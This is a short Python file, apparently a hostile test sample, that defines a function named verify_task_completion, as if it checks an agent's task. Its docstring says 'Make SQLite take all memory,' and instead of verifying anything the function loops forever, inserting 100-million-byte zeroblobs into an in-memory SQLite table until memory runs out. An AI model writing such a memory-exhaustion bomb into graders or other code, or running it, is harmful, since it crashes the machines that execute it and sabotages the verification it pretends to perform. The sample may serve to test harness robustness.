"""Make SQLite take all memory."""

import sqlite3


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    connection = sqlite3.connect(":memory:")
    connection.execute("CREATE TABLE hoard (data)")
    while True:
        connection.execute("INSERT INTO hoard VALUES (zeroblob(100000000))")
